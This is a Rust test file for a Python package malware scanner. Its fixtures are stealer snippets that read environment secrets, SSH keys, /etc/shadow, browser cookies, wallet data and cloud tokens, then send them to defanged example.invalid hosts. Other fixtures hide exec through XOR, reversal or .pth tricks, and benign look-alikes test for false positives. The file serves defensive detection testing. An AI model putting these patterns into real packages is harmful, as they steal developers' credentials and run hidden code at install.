//! Secrets, host identity and the ways they leave at load, as tester t11 spelled them: the
//! environment taken whole in any spelling, secret variables named through the name table or
//! by their words, credential stores named by path component, f-string, glob or call, the
//! network reached through name-lookup tools, TLS sockets, pycurl, XML-RPC and the browser, the
//! user or host name sent (a dependency-confusion probe), and stealer functions reached at load
//! through hooks, classes, partials and chains of calls. Every source is defanged (hosts under
//! `example.invalid`) and only scanned. Benign look-alikes must stay below the grade.

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::{scan_file, FileReport};

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::{package, worst};

fn summary(r: &FileReport) -> Vec<String> {
    r.findings
        .iter()
        .map(|f| format!("{} {} {}", f.rule.id, f.severity, f.message))
        .collect()
}

const POST: &str = "import requests\nrequests.post('https://c.example.invalid/u', data=str(x))\n";
const LOOKUP: &str = "import socket\nsocket.gethostbyname(str(info)[:50] + '.c.example.invalid')\n";

/// `x = <read>` at import, then a post of `x`: each read is a secret (critical stealer).
const SECRET_READS: &[(&str, &str)] = &[
    ("env-comprehension", "import os\nx = {k: os.environ[k] for k in os.environ}\n"),
    ("environb", "import os\nx = dict(os.environb)\n"),
    ("environ-data", "import os\nx = os.environ._data\n"),
    ("dunder-import-copy", "x = __import__('os').environ.copy()\n"),
    ("keys-then-values", "import os\nx = [(k, os.getenv(k)) for k in list(os.environ)]\n"),
    ("env-command", "import subprocess\nx = subprocess.check_output(['env'])\n"),
    ("posix-environ", "x = dict(__import__('posix').environ)\n"),
    ("name-in-pieces", "import os\nx = os.environ.get('GITHUB_' + 'TOKEN')\n"),
    ("name-bound", "import os\nK = 'GITHUB_TOKEN'\nx = os.environ[K]\n"),
    ("getitem", "import os\nx = os.environ.__getitem__('AWS_SECRET_ACCESS_KEY')\n"),
    ("getenv-alias", "from os import getenv as ge\nx = ge('AWS_SECRET_ACCESS_KEY')\n"),
    ("key-last-word", "import os\nx = os.getenv('OPENAI_KEY')\n"),
    ("lower-case-name", "import os\nx = os.getenv('github_token')\n"),
    ("pass-word", "import os\nx = os.environ['TWINE_PASS']\n"),
    ("database-url", "import os\nx = os.environ['DATABASE_URL']\n"),
    ("ssh-agent", "import os\nx = os.environ['SSH_AUTH_SOCK']\n"),
    ("f-string-path", "import os\nx = open(f\"{os.environ['HOME']}/.ssh/id_rsa\").read()\n"),
    ("glob-keys", "import glob, os\nx = [open(p).read() for p in glob.glob(os.path.expanduser('~/.s*/id_*'))]\n"),
    ("pgpass", "import os\nx = open(os.path.expanduser('~/.pgpass')).read()\n"),
    ("shadow", "x = open('/etc/shadow').read()\n"),
    ("keychain", "import os\nx = open(os.path.expanduser('~/Library/Keychains/login.keychain-db'), 'rb').read()\n"),
    ("azure", "import os\nx = open(os.path.expanduser('~/.azure/accessTokens.json')).read()\n"),
    ("netrc-module", "import netrc\nx = netrc.netrc().hosts\n"),
    ("keyring", "import keyring\nx = keyring.get_password('github', 'user')\n"),
    ("ssh-agent-keys", "import paramiko\nx = paramiko.Agent().get_keys()\n"),
    ("chrome-windows", "import os\nx = open(os.environ['LOCALAPPDATA'] + r'\\Google\\Chrome\\User Data\\Default\\Network\\Cookies', 'rb').read()\n"),
    ("telegram", "import os\nx = os.listdir(os.path.join(os.environ['APPDATA'], 'Telegram Desktop', 'tdata'))\n"),
    ("getattr-alias", "import os\nE = getattr(os, 'environ')\nx = dict(E)\n"),
    ("import-alias", "from os import environ as E\nx = dict(E)\n"),
    ("getattr-inline", "import os\nx = dict(getattr(os, 'environ'))\n"),
    ("loop-names", "import os\nx = {k: os.getenv(k) for k in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN')}\n"),
    ("wallet-extension", "import os\nx = os.listdir(os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'))\n"),
];

/// A secret read at import, then one of these senders at import (critical stealer).
const SENDERS: &[(&str, &str)] = &[
    ("xmlrpc", "import xmlrpc.client\nxmlrpc.client.ServerProxy('https://c.example.invalid/').log(x)\n"),
    ("webbrowser", "import webbrowser\nwebbrowser.open('https://c.example.invalid/u?t=' + str(x))\n"),
    ("pycurl", "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://c.example.invalid/u?t=' + str(x))\nc.perform()\n"),
    ("tls-socket", "import socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.socket(), server_hostname='c.example.invalid')\ns.connect(('c.example.invalid', 443))\ns.send(str(x).encode())\n"),
    ("nslookup", "import subprocess\nsubprocess.call(['nslookup', str(x) + '.c.example.invalid'])\n"),
];

/// A stealer function (a secret read and a post in one body), reached at load.
const STEALER_FN: &str = "def _f(*a):\n    import os, requests\n    requests.post('https://c.example.invalid/u', data=os.environ.get('GITHUB_TOKEN'))\n";
const REACHED: &[(&str, &str)] = &[
    ("excepthook", "import sys\nsys.excepthook = _f\n"),
    (
        "init-subclass",
        "class B:\n    def __init_subclass__(cls):\n        _f()\nclass C(B):\n    pass\n",
    ),
    (
        "instance-init",
        "class C:\n    def __init__(self):\n        _f()\n_c = C()\n",
    ),
    (
        "call-chain",
        "def a():\n    b()\ndef b():\n    c()\ndef c():\n    _f()\na()\n",
    ),
    (
        "nested-def",
        "def outer():\n    def inner():\n        _f()\n    inner()\nouter()\n",
    ),
    ("partial", "import functools\nfunctools.partial(_f, 1)()\n"),
];

/// `info = <identity>` at import, then a name lookup built from it (high host fingerprint).
const IDENTITIES: &[(&str, &str)] = &[
    ("env-user", "import os\ninfo = os.environ.get('USER')\n"),
    (
        "env-windows",
        "import os\ninfo = os.environ['USERNAME'] + os.environ['COMPUTERNAME']\n",
    ),
    (
        "pwd-entry",
        "import os\ninfo = __import__('pwd').getpwuid(os.getuid()).pw_name\n",
    ),
    (
        "whoami",
        "info = __import__('subprocess').check_output(['whoami'])\n",
    ),
    ("etc-hostname", "info = open('/etc/hostname').read()\n"),
    ("uname-node", "import os\ninfo = os.uname().nodename\n"),
    (
        "getuser-alias",
        "from getpass import getuser as gu\ninfo = gu()\n",
    ),
    (
        "report-dict",
        "import getpass, socket\ninfo = {}\ninfo['u'] = getpass.getuser()\n",
    ),
];

#[test]
fn secrets_read_in_any_spelling_and_sent_at_load_are_stealers() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    let mut check = |case: String, src: String, rule: &str, want: Severity| {
        let p = package(dir.path(), &case, "__init__.py", &src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, rule) != Some(want) {
            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
        }
    };
    for (case, read) in SECRET_READS {
        check(
            format!("read-{case}"),
            format!("{read}{POST}"),
            "python-credential-stealer",
            Severity::Critical,
        );
    }
    for (case, send) in SENDERS {
        check(
            format!("send-{case}"),
            format!("import os\nx = os.environ.get('GITHUB_TOKEN')\n{send}"),
            "python-credential-stealer",
            Severity::Critical,
        );
    }
    for (case, reach) in REACHED {
        check(
            format!("reach-{case}"),
            format!("{STEALER_FN}{reach}"),
            "python-credential-stealer",
            Severity::Critical,
        );
    }
    for (case, who) in IDENTITIES {
        check(
            format!("who-{case}"),
            format!("{who}{LOOKUP}"),
            "python-host-fingerprint",
            Severity::High,
        );
    }
    check(
        "who-curl-argv".into(),
        "import getpass, subprocess\nsubprocess.run(['curl', 'https://c.example.invalid/?u=' + getpass.getuser()])\n".into(),
        "python-host-fingerprint",
        Severity::High,
    );
    check(
        "who-nslookup".into(),
        "import socket, subprocess\nsubprocess.run(['nslookup', socket.gethostname() + '.c.example.invalid'])\n".into(),
        "python-host-fingerprint",
        Severity::High,
    );
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Shapes near the rules that are not stealers or probes: variables whose names hold a secret
/// word inside another (`TOKENIZERS_PARALLELISM`), the environment handed to a child process or
/// only counted or tested, a glob over sources, the host's own address looked up, the user's
/// name in a local cache path beside a download.
#[test]
fn neighbours_of_secrets_and_identity_are_not_graded_so() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "tokenizers-variable",
            "__init__.py",
            "import os, requests\nx = os.environ.get('TOKENIZERS_PARALLELISM', 'false')\nn = os.getenv('MAX_TOKENS')\nrequests.get('https://c.example.invalid/version')\n",
        ),
        (
            "env-to-child",
            "__init__.py",
            "import os, subprocess, requests\nenv = os.environ\nsubprocess.run(['echo', 'hi'], env=os.environ)\nn = len(os.environ)\nok = 'HOME' in os.environ\nkeys = sorted(os.environ)\nrequests.get('https://c.example.invalid/version')\n",
        ),
        (
            "glob-sources",
            "__init__.py",
            "import glob, requests\nfiles = glob.glob('src/**/*.py')\nrequests.get('https://c.example.invalid/version')\n",
        ),
        (
            "own-address",
            "__init__.py",
            "import os, socket\nMASTER_IP = socket.gethostbyname(os.environ.get('MASTER_ADDR', socket.gethostname()))\nME = socket.gethostbyname(socket.gethostname())\n",
        ),
        (
            "user-cache-dir",
            "setup.py",
            "import getpass, os, tempfile, urllib.request\ncache = os.path.join(tempfile.gettempdir(), 'demo-build-' + getpass.getuser())\nos.makedirs(cache, exist_ok=True)\nurllib.request.urlretrieve('https://files.example.invalid/prebuilt.tar.gz', os.path.join(cache, 'prebuilt.tar.gz'))\n",
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, file, src) in cases {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        let graded = ["python-credential-stealer", "python-host-fingerprint"]
            .iter()
            .filter_map(|rule| worst(&r, rule))
            .next();
        // A download at load stays what it is (network at load, medium); nothing more.
        if graded.is_some() || r.worst().is_some_and(|w| w > Severity::Medium) {
            wrong.push(format!("{case}: {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// `git describe --tags 2>/dev/null || echo 0.0.0` at import is a version helper's fallback
/// (low); an `echo` that follows no query, or a fallback that runs more, stays a shell command.
#[test]
fn a_constant_fallback_after_a_query_is_a_query() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: &[(&str, &str, Severity)] = &[
        (
            "describe-or-echo",
            "import os\nV = os.popen('git describe --tags 2>/dev/null || echo 0.0.0').read()\n",
            Severity::Low,
        ),
        (
            "echo-alone",
            "import os\nos.system('echo airlock-test')\n",
            Severity::High,
        ),
        (
            "fallback-runs-more",
            "import os\nos.system('git describe || echo x; echo airlock-test')\n",
            Severity::High,
        ),
        (
            "echo-text-fallback",
            "import os\nos.system('git describe --tags || echo airlock-test')\n",
            Severity::High,
        ),
        (
            "unknown-fallback",
            "import os\nV = os.popen('git rev-parse --short HEAD || echo unknown').read()\n",
            Severity::Low,
        ),
        (
            "no-query-first",
            "import os\nos.system('true || echo airlock-test')\n",
            Severity::High,
        ),
    ];
    let mut wrong = Vec::new();
    for (case, src, want) in cases {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-shell-command") != Some(*want) {
            wrong.push(format!("{case}: want {want}, got {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Code computed from constants by a transformation the name table does not fold (a character
/// shift, XOR, reversal, a codec, `reduce`) and run at import is hidden code (high); so is a
/// package resource or archive member run as code. Generated code whose template reads as
/// Python, and a module's own `.py` read for its version, are not.
#[test]
fn constants_turned_into_code_run_at_load() {
    let dir = tempfile::tempdir().expect("tempdir");
    let hidden: &[(&str, &str)] = &[
        ("caesar", "exec(''.join(map(lambda c: chr(ord(c) - 1), 'jnqpsu!pt<!pt/tztufn)(fdip!bjsmpdl.uftu(*')))\n"),
        ("xor-chars", "exec(''.join(chr(ord(c) ^ 1) for c in 'hlqnsu!nr:!nr/rxrudl)&dbin!`hsmnbj,udru&('))\n"),
        ("xor-bytes", "exec(bytes(b ^ 32 for b in b'IMPORT\\x00OS\\x1b\\x00OS\\x0eSYSTEM\\x08\\x07ECHO\\x00AIRLOCK\\rTEST\\x07\\t').decode())\n"),
        ("reversed", "exec(''.join(reversed(\")'tset-kcolria ohce'(metsys.so ;so tropmi\")))\n"),
        ("reduce", "import functools, operator\nexec(functools.reduce(operator.add, ['i', 'm', 'p', 'o', 'r', 't', ' ', 'o', 's', ';', ' ', 'o', 's', '.', 's', 'y', 's']))\n"),
        ("cp037", "exec(b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^@\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M'.decode('cp037'))\n"),
        ("package-data", "import pkgutil\nexec(pkgutil.get_data(__name__, 'x.dat'))\n"),
        ("resource-text", "import importlib.resources\nexec(importlib.resources.read_text(__name__, 'x.dat'))\n"),
        ("zip-member", "import os, zipfile\nexec(zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'x.zip')).read('a'))\n"),
    ];
    let generated: &[(&str, &str)] = &[
        ("accessors", "for n in ('alpha', 'beta'):\n    exec('def get_%s(self):\\n    return self._%s\\n' % (n, n))\n"),
        ("version-file", "import os\nhere = os.path.dirname(__file__)\nexec(compile(open(os.path.join(here, '_version.py')).read(), '_version.py', 'exec'))\n"),
        ("reexports", "for m in ['core', 'io', 'utils', 'nn', 'optim', 'data', 'viz', 'cli', 'hub', 'ops', 'math', 'text']:\n    exec('from .' + m + ' import *')\n"),
    ];
    let mut wrong = Vec::new();
    for (case, src) in hidden {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-exec-computed") != Some(Severity::High) {
            wrong.push(format!("{case}: want high, got {:?}", summary(&r)));
        }
    }
    for (case, src) in generated {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if r.worst().is_some_and(|w| w >= Severity::Medium) {
            wrong.push(format!("{case}: want below medium, got {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A `sys.argv` branch for the package's own command is latent only while the file does not
/// write `sys.argv` itself (`sys.argv.append('publish')` before the test makes it run).
#[test]
fn an_argv_branch_the_file_arms_itself_runs() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: &[(&str, &str, Severity)] = &[
        ("plain", "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('echo airlock-test')\n", Severity::Low),
        ("appended", "import os, sys\nsys.argv.append('publish')\nif sys.argv[-1] == 'publish':\n    os.system('echo airlock-test')\n", Severity::High),
        ("assigned", "import os, sys\nsys.argv[-1] = 'publish'\nif sys.argv[-1] == 'publish':\n    os.system('echo airlock-test')\n", Severity::High),
    ];
    let mut wrong = Vec::new();
    for (case, src, want) in cases {
        let p = package(dir.path(), case, "setup.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-shell-command") != Some(*want) {
            wrong.push(format!("{case}: want {want}, got {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// PowerShell's options that take a value (`-ep bypass`, `-w hidden`) before `-c` do not hide
/// the command (tester t12, q37); without `-c` the value is no command.
#[test]
fn powershell_options_with_values_do_not_hide_the_command() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: &[(&str, &str, Option<Severity>)] = &[
        (
            "ep-bypass",
            "import subprocess\nsubprocess.Popen(['powershell', '-ep', 'bypass', '-w', 'hidden', '-c', 'echo airlock-test'])\n",
            Some(Severity::High),
        ),
        (
            "script-file",
            "import subprocess\nsubprocess.Popen(['powershell', '-ep', 'bypass', '-File', 'tools\\\\build.ps1'])\n",
            None,
        ),
    ];
    let mut wrong = Vec::new();
    for (case, src, want) in cases {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-shell-command") != *want {
            wrong.push(format!("{case}: want {want:?}, got {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A `.pth` line that reaches `exec` through a frame's namespaces
/// (`sys._getframe(0).f_globals['__builtins__']['exec'](…)`, tester t12 p12) runs the code it
/// hands over, which is analysed: a shell command at every interpreter start.
#[test]
fn exec_through_a_frames_namespaces_is_exec() {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("y.pth");
    std::fs::write(
        &p,
        "import sys; sys._getframe(0).f_globals['__builtins__']['exec'](\"__import__('os').system('echo airlock-test')\")\n",
    )
    .expect("write");
    let r = scan_file(&p, BudgetLimits::default());
    assert_eq!(
        worst(&r, "python-shell-command"),
        Some(Severity::High),
        "{:?}",
        summary(&r)
    );
}

/// A hatchling build hook (`hatch_build.py`) and a pdm-backend hook (`pdm_build.py`) run while
/// the package builds: their hook methods are install-time code (tester t12, d04); a hook that
/// only writes a version file stays below medium.
#[test]
fn build_backend_hooks_run_at_install() {
    let dir = tempfile::tempdir().expect("tempdir");
    let hatch = "import os, socket, urllib.request\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        urllib.request.urlopen('https://hh.example.invalid/?h=' + socket.gethostname())\n";
    let pdm = "import os\ndef pdm_build_initialize(context):\n    os.system('echo airlock-test')\n";
    let benign = "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        with open('src/demo/_version.py', 'w') as f:\n            f.write(f'__version__ = {self.metadata.version!r}')\n";
    let mut wrong = Vec::new();
    let r = scan_file(
        &package(dir.path(), "hatch", "hatch_build.py", hatch),
        BudgetLimits::default(),
    );
    if worst(&r, "python-host-fingerprint") != Some(Severity::High) {
        wrong.push(format!("hatch: {:?}", summary(&r)));
    }
    let r = scan_file(
        &package(dir.path(), "pdm", "pdm_build.py", pdm),
        BudgetLimits::default(),
    );
    if worst(&r, "python-shell-command") != Some(Severity::High) {
        wrong.push(format!("pdm: {:?}", summary(&r)));
    }
    let r = scan_file(
        &package(dir.path(), "version", "hatch_build.py", benign),
        BudgetLimits::default(),
    );
    if r.worst().is_some_and(|w| w >= Severity::Medium) {
        wrong.push(format!("version: {:?}", summary(&r)));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A client that sends its own service's key to that service at import (an API client listing
/// its models) is network at load, not a stealer; the same key sent to any other host, or to a
/// host that only starts with the vendor's name, is one (tester t11 b21). Vendor names are
/// spelled under `example.invalid` here: `EXAMPLE_API_KEY` belongs to `*.example.invalid`.
#[test]
fn a_key_sent_to_the_service_that_issued_it_is_not_stolen() {
    let dir = tempfile::tempdir().expect("tempdir");
    let read = "import os, requests\nKEY = os.environ.get('EXAMPLE_API_KEY')\n";
    let cases = [
        ("own", "requests.get('https://api.example.invalid/v1/models', headers={'Authorization': 'Bearer ' + str(KEY)}, timeout=2)\n", None),
        ("lookalike", "requests.get('https://example.invalid.c2.invalid/v1/models', headers={'Authorization': 'Bearer ' + str(KEY)})\n", Some(Severity::Critical)),
        ("elsewhere", "requests.post('https://collector.c2.invalid/u', data=str(KEY))\n", Some(Severity::Critical)),
        ("two-hosts", "requests.get('https://api.example.invalid/v1/models')\nrequests.post('https://collector.c2.invalid/u', data=str(KEY))\n", Some(Severity::Critical)),
    ];
    let mut wrong = Vec::new();
    for (case, send, want) in cases {
        let src = format!("{read}{send}");
        let p = package(dir.path(), case, "__init__.py", &src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-credential-stealer") != want {
            wrong.push(format!("{case}: want {want:?}\n{src}\n{:#?}", summary(&r)));
        }
        if case == "own" && worst(&r, "python-network-at-load") != Some(Severity::Medium) {
            wrong.push(format!("{case}: network at load\n{:#?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

/// Channels that carry a secret out without an HTTP client's name, secret stores of tools and
/// clouds, and commands that print a token (tester t14): each read at import and sent is a
/// stealer. The same uploads inside functions nothing calls at load are not.
#[test]
fn new_channels_and_stores_at_import_are_stealers() {
    let dir = tempfile::tempdir().expect("tempdir");
    let read = "import os\nS = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n";
    let post = "import requests\nrequests.post('https://c.example.invalid/u', data=str(D))\n";
    let cases: Vec<(&str, String)> = vec![
        ("boto3", format!("{read}import boto3\nboto3.client('s3', endpoint_url='https://s3.c.example.invalid').put_object(Bucket='d', Key='k', Body=S)\n")),
        ("gcs", format!("{read}from google.cloud import storage\nstorage.Client().bucket('d').blob('k').upload_from_string(S)\n")),
        ("azure", format!("{read}from azure.storage.blob import BlobClient\nBlobClient.from_blob_url('https://d.example.invalid/k').upload_blob(S)\n")),
        ("hf", "import os\nfrom huggingface_hub import HfApi\nHfApi(token='hf_x').upload_file(path_or_fileobj=os.path.expanduser('~/.aws/credentials'), path_in_repo='c', repo_id='d/d')\n".to_string()),
        ("sftp", "import os, paramiko\nt = paramiko.Transport(('c.example.invalid', 22))\nt.connect(username='u', password='p')\nparamiko.SFTPClient.from_transport(t).put(os.path.expanduser('~/.aws/credentials'), '/d/c')\n".to_string()),
        ("httphandler", format!("{read}import logging, logging.handlers\nlg = logging.getLogger('t')\nlg.addHandler(logging.handlers.HTTPHandler('c.example.invalid', '/log', method='POST'))\nlg.error(S)\n")),
        // Programs that copy to another host (tester t14 ch13, ch18, ch23).
        ("scp", "import os, subprocess\nsubprocess.Popen(['scp', '-q', os.path.expanduser('~/.ssh/id_rsa'), 'u@c.example.invalid:/drop/'])\n".to_string()),
        ("gittoken", format!("{read}import subprocess\nsubprocess.run(['git', 'ls-remote', 'https://' + S + '@c.example.invalid/x.git'])\n")),
        ("piptoken", format!("{read}import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'download', '--index-url', 'https://u:' + S + '@c.example.invalid/simple', 'zzz'])\n")),
        ("syslogremote", format!("{read}import logging, logging.handlers\nlg = logging.getLogger('t')\nlg.addHandler(logging.handlers.SysLogHandler(('c.example.invalid', 514)))\nlg.error(S)\n")),
        ("imds", format!("import urllib.request\nD = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').read()\n{post}")),
        ("k8s", format!("D = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n{post}")),
        ("kaggle", format!("import os\nD = open(os.path.expanduser('~/.kaggle/kaggle.json')).read()\n{post}")),
        ("vault", format!("import os\nD = open(os.path.expanduser('~/.vault-token')).read()\n{post}")),
        ("gh", format!("import subprocess\nD = subprocess.check_output(['gh', 'auth', 'token'])\n{post}")),
        ("gcloud", format!("import subprocess\nD = subprocess.check_output('gcloud auth print-access-token', shell=True)\n{post}")),
    ];
    let mut wrong = Vec::new();
    for (case, src) in &cases {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
            wrong.push(format!("{case}:\n{src}\n{:#?}", summary(&r)));
        }
    }
    let benign = [
        ("s3fn", "import boto3\ndef save(path, bucket):\n    boto3.client('s3').upload_file(path, bucket, 'model.bin')\n"),
        ("hffn", "from huggingface_hub import HfApi\ndef push(folder, repo):\n    HfApi().upload_folder(folder_path=folder, repo_id=repo)\n"),
        ("imdsregion", "import urllib.request\ndef region():\n    return urllib.request.urlopen('http://169.254.169.254/latest/meta-data/placement/region', timeout=1).read()\n"),
        // The local syslog (tester t14 bs06): nothing leaves the machine.
        ("sysloglocal", "import logging, logging.handlers\nlog = logging.getLogger(__name__)\nlog.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\n"),
        ("rsynclocal", "import subprocess\nsubprocess.run(['rsync', '-a', 'build/', 'dist/'])\n"),
        ("gitclone", "import os, subprocess\nT = os.environ.get('HOME')\nsubprocess.run(['git', 'clone', 'https://github.com/org/repo.git'])\n"),
        ("syslogdefault", "import logging.handlers\nlogging.getLogger().addHandler(logging.handlers.SysLogHandler())\n"),
    ];
    for (case, src) in benign {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
            wrong.push(format!("benign {case}:\n{src}\n{:#?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}
